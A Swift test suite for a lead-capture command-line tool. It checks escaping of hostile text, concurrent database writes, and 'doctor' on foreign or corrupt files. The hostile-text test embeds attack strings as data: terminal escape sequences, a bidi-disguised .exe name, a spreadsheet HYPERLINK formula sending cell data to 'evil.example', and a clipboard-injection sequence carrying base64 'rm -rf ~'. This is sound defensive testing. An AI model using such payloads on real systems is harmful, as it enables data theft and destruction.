import Foundation
import LeadCore
import LeaddTesting
import Testing

@testable import LeadStore

/// The issue's "Bad input" cases that involve the command line: hostile text, two writing processes, and
/// `doctor` on files that are not a healthy leadd database.
struct BadInputTests {
    private static let esc: [UInt8] = [0x1B]
    private static let nul: [UInt8] = [0x00]
    private static let rightToLeftOverride: [UInt8] = Array("\u{202E}".utf8)

    private func expectNoRawControls(_ data: Data, _ what: String, sourceLocation: SourceLocation = #_sourceLocation) {
        #expect(!contains(data, Self.esc), "\(what) has a raw ESC", sourceLocation: sourceLocation)
        #expect(!contains(data, Self.nul), "\(what) has a raw NUL", sourceLocation: sourceLocation)
        #expect(!contains(data, Self.rightToLeftOverride), "\(what) has a raw U+202E", sourceLocation: sourceLocation)
    }

    // MARK: Hostile text

    @Test func readingCommandsOnAMissingDatabaseSaySoAndCreateNothing() throws {
        try withSandbox { sb in
            let path = sb.dir + "/nowhere/leads.sqlite3"
            for command in [
                ["status"], ["list"], ["stats"], ["export", "--format", "csv"], ["sync"], ["retry", "--rejected"],
                ["purge", "--synced-before", "30"], ["show", "0190"],
            ] {
                let result = try sb.run(["--db", path] + command)
                #expect(result.status == 1, "\(command): \(result.err)")
                #expect(result.err.contains("no database here yet"), "\(command): \(result.err)")
                #expect(!FileManager.default.fileExists(atPath: path), "\(command) created the database")
            }
            // The commands that bring leads in create it.
            try sb.add(["--db", path], ["first_name=Anna", "email=anna@example.com"])
            #expect(FileManager.default.fileExists(atPath: path))
            #expect(try sb.ok(["--db", path, "status"]).out.contains("Leads: 1"))
        }
    }

    @Test func hostileTextNeverReachesATerminalOrACSVCellRaw() throws {
        try withSandbox { sb in
            let db = ["--db", sb.dir + "/leads.sqlite3"]
            // argv cannot carry NUL; ESC sequences (title, clear screen, colour) and a bidi override it can.
            let name = "\u{1B}]0;pwned\u{07}\u{1B}[2J\u{1B}[31mMallory\u{202E}gnp.exe"
            let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click for prize\")"
            let added = try sb.ok(
                db + [
                    "add", "first_name=\(name)", "last_name=\(formula)", "company=@SUM(1+1)", "email=m@example.com",
                    "phone=+79161234567", "--consent", "--note", "note\u{1B}[8m hidden", "--json",
                ]
            )
            expectNoRawControls(added.stdout, "add --json")
            let id = try #require(try added.json()["lead_id"] as? String)

            // A record from a file is not cleaned by the form's validator: it reaches the store as it is.
            var record = try added.json()
            let importedID = LeadID.make()
            record["lead_id"] = importedID
            record["fields"] = [
                "first_name": "Nul\u{0}Byte\u{1B}[2J\u{202E}evil", "last_name": "-2+3", "email": "n@example.com",
            ]
            record["notes"] = "a\u{0}b\u{1B}]52;c;cm0gLXJmIH4=\u{07}"
            record["deliveries"] = []
            let line = try JSONSerialization.data(withJSONObject: record)
            try line.write(to: URL(fileURLWithPath: sb.dir + "/hostile.jsonl"))
            try sb.ok(db + ["import", sb.dir + "/hostile.jsonl"])
            let stored = try #require(
                try LeadStore(path: sb.dir + "/leads.sqlite3", readOnly: true).lead(id: importedID)
            )
            #expect(stored.fields["first_name"]?.contains("\u{0}") == true)  // kept, as data

            for args in [["list"], ["show", id], ["show", importedID], ["status"], ["stats"], ["doctor"]] {
                let result = try sb.run(db + args)
                expectNoRawControls(result.stdout, "leadctl \(args.joined(separator: " "))")
                expectNoRawControls(result.stderr, "leadctl \(args.joined(separator: " ")) stderr")
            }
            let list = try sb.ok(db + ["list"]).out
            #expect(list.contains("Mallory"))
            #expect(list.contains("Nul^@Byte^[[2J<U+202E>evil"))
            #expect(try sb.ok(db + ["show", importedID]).out.contains("a^@b^[]52;c;cm0gLXJmIH4=^G"))
            // JSON escapes control characters; it never carries them raw either.
            let json = try sb.ok(db + ["show", importedID, "--json"])
            #expect(!contains(json.stdout, Self.esc) && !contains(json.stdout, Self.nul))
            #expect(
                (try json.json()["fields"] as? [String: Any])?["first_name"] as? String == stored.fields["first_name"]
            )

            let csv = try sb.ok(db + ["export", "--format", "csv"]).out
            #expect(csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click for prize\"\")\""))
            #expect(!csv.contains(",=HYPERLINK") && !csv.contains("\"=HYPERLINK"))
            #expect(csv.contains(",'@SUM(1+1),"))
            #expect(csv.contains(",'-2+3,"))
            #expect(csv.contains(",+79161234567,"))
            let excel = try sb.ok(db + ["export", "--format", "csv", "--excel"]).out
            #expect(excel.contains("'=HYPERLINK("))
        }
    }

    @Test func hostileSinkNameAndEventFromConfigAreShownSafely() throws {
        try withSandbox { sb in
            let config = try sb.writeConfig(
                extra: "\n[Sink]\nName=usb\u{1B}[2J\nType=directory\nDirectory=/media/usb\n"
            )
            let result = try sb.run(["--config", config, "status"])
            // Either the config refuses the name (exit 78) or status shows it escaped; never raw.
            #expect(result.status == 0 || result.status == 78)
            expectNoRawControls(result.stdout, "status")
            expectNoRawControls(result.stderr, "status stderr")
        }
    }

    // MARK: Two processes writing at once

    @Test func twoProcessesWritingAtOnceLoseNothingAndNeverReportBusy() async throws {
        // Child processes and blocking waits: on a thread of its own (see onOwnThread).
        try await onOwnThread {
            try withSandbox { sb in
                let path = sb.dir + "/leads.sqlite3"
                let store = try LeadStore(path: path)  // created (and migrated) before either writer starts
                let binary = try #require(LeadctlBinary.path)
                let log = sb.dir + "/writer.log"
                #expect(FileManager.default.createFile(atPath: log, contents: nil))
                let process = Process()
                process.executableURL = URL(fileURLWithPath: "/bin/sh")
                process.arguments = [
                    "-c",
                    """
                    i=0
                    while [ $i -lt 100 ]; do
                      "$0" --db "$1" add "first_name=Proc$i" "email=proc$i@example.com" --consent >/dev/null || exit 1
                      i=$((i + 1))
                    done
                    """,
                    binary, path,
                ]
                process.environment = ["PATH": "/usr/bin:/bin", "LANG": "C.UTF-8"]
                let logHandle = try FileHandle(forWritingTo: URL(fileURLWithPath: log))
                process.standardOutput = logHandle
                process.standardError = logHandle
                try process.run()

                var failures: [String] = []
                for i in 0..<200 {
                    do {
                        try store.capture(makeLead(i), form: .default)
                    } catch {
                        failures.append("\(error)")
                    }
                }
                process.waitUntilExit()
                try logHandle.close()
                let output = String(decoding: try sb.bytes(log), as: UTF8.self)
                #expect(process.terminationStatus == 0, "leadctl loop: \(output)")
                #expect(!output.contains("busy") && !output.contains("locked"), "\(output)")
                #expect(failures == [])
                #expect(try store.status().leads == 300)
                #expect(try store.integrityProblems() == [])
                var channels: [String: Int] = [:]
                try store.forEachLead { lead, _ in channels[lead.channel.rawValue, default: 0] += 1 }
                #expect(channels == ["keyboard": 200, "staff": 100])
            }
        }
    }

    // Regression: LeadStore.init once read application_id, user_version and the schema size as three separate
    // statements; another process committing the first migration in between made leadd refuse its own new
    // database as "an SQLite database of another program". The three now come from one read transaction.
    // Whether a round hits the old window is up to the scheduler; the assertion is exact either way.
    @Test func processesCreatingTheDatabaseAtOnceAllSucceed() async throws {
        // Child processes and blocking waits: on a thread of its own (see onOwnThread).
        try await onOwnThread {
            try withSandbox { sb in
                let binary = try #require(LeadctlBinary.path)
                var failures: [String] = []
                for round in 0..<15 {
                    let path = sb.dir + "/round\(round)/leads.sqlite3"
                    var running: [(Process, String)] = []
                    for worker in 0..<3 {
                        let log = sb.dir + "/round\(round)-\(worker).log"
                        #expect(FileManager.default.createFile(atPath: log, contents: nil))
                        let handle = try FileHandle(forWritingTo: URL(fileURLWithPath: log))
                        let process = Process()
                        process.executableURL = URL(fileURLWithPath: binary)
                        process.arguments = [
                            "--db", path, "add", "first_name=W\(worker)", "email=w\(worker)@example.com", "--consent",
                        ]
                        process.environment = ["PATH": "/usr/bin:/bin", "LANG": "C.UTF-8"]
                        process.standardOutput = FileHandle.nullDevice
                        process.standardError = handle
                        try process.run()
                        try handle.close()
                        running.append((process, log))
                    }
                    for (process, log) in running {
                        process.waitUntilExit()
                        if process.terminationStatus != 0 {
                            failures.append(
                                "exit \(process.terminationStatus): "
                                    + String(decoding: try sb.bytes(log), as: UTF8.self)
                            )
                        }
                    }
                    if failures.isEmpty {
                        #expect(try LeadStore(path: path, readOnly: true).status().leads == 3)
                    }
                }
                #expect(failures == [])
            }
        }
    }

    private func makeLead(_ i: Int) -> Lead {
        Lead(
            event: "Expo 2026",
            kiosk: "booth-1",
            channel: .keyboard,
            fields: ["first_name": "Test\(i)", "email": "test\(i)@example.com"],
            consent: Consent(text: FormSpec.default.consentText.base, language: "en")
        )
    }

    // MARK: doctor on a file that is not a healthy leadd database

    @Test func doctorOnAForeignDatabaseSaysSoAndChangesNothing() throws {
        try withSandbox { sb in
            let path = sb.dir + "/other.sqlite3"
            do {
                // The store's thin connection, used raw: another program's database.
                let other = try Connection(path: path, readOnly: false)
                try other.execute("CREATE TABLE x(y); INSERT INTO x VALUES ('precious');")
            }
            let before = try sb.bytes(path)
            let doctor = try sb.run(["--db", path, "doctor"])
            #expect(doctor.status == 1)
            #expect(doctor.out.contains("FAIL database"))
            #expect(doctor.out.contains("not leadd's database"))
            #expect(doctor.out.contains("nothing was changed"))
            // Commands that would write refuse too.
            let add = try sb.run(["--db", path, "add", "first_name=A", "email=a@example.com", "--consent"])
            #expect(add.status == 1)
            #expect(add.err.contains("another program"))
            #expect(try sb.bytes(path) == before)
            #expect(!FileManager.default.fileExists(atPath: path + "-wal"))
        }
    }

    @Test func doctorOnATextFileSaysSoAndChangesNothing() throws {
        try withSandbox { sb in
            let path = sb.dir + "/notes.txt"
            try sb.write(String(repeating: "Remember to bring badges.\n", count: 300), to: path)
            let before = try sb.bytes(path)
            let doctor = try sb.run(["--db", path, "doctor", "--json"])
            #expect(doctor.status == 1)
            let report = try doctor.json()
            #expect(report["ok"] as? Bool == false)
            let checks = try #require(report["checks"] as? [[String: Any]])
            let database = try #require(checks.first { $0["name"] as? String == "database" })
            #expect(database["ok"] as? Bool == false)
            #expect((database["detail"] as? String)?.contains("not a database") == true)
            #expect(try sb.run(["--db", path, "status"]).status == 1)
            #expect(try sb.bytes(path) == before)
        }
    }

    @Test func doctorOnACorruptDatabaseSaysSoAndChangesNothing() throws {
        try withSandbox { sb in
            let path = sb.dir + "/leads.sqlite3"
            var pageSize = 0
            do {
                let store = try LeadStore(path: path)
                pageSize = Int(try #require(try store.db.scalarInt("PRAGMA page_size")))
                let leads = (0..<300).map { i in
                    var lead = makeLead(i)
                    lead.fields["company"] = "Company number \(i) with a fairly long name"
                    return (lead, [DeliveryInfo]())
                }
                #expect(try store.importLeads(leads, form: .default).added == 300)
                try store.db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
            }
            var bytes = try sb.bytes(path)
            let pages = bytes.count / pageSize
            #expect(pages > 8)
            for i in stride(from: pageSize * (pages / 3), to: pageSize * (2 * pages / 3), by: 7) { bytes[i] = 0xA5 }
            try bytes.write(to: URL(fileURLWithPath: path))
            let damaged = try sb.bytes(path)

            let doctor = try sb.run(["--db", path, "doctor"])
            #expect(doctor.status == 1)
            #expect(doctor.out.contains("FAIL database"))
            let says = doctor.out.contains("integrity check failed") || doctor.out.contains("corrupt")
            #expect(says, "\(doctor.out)")
            #expect(try sb.bytes(path) == damaged)
        }
    }
}
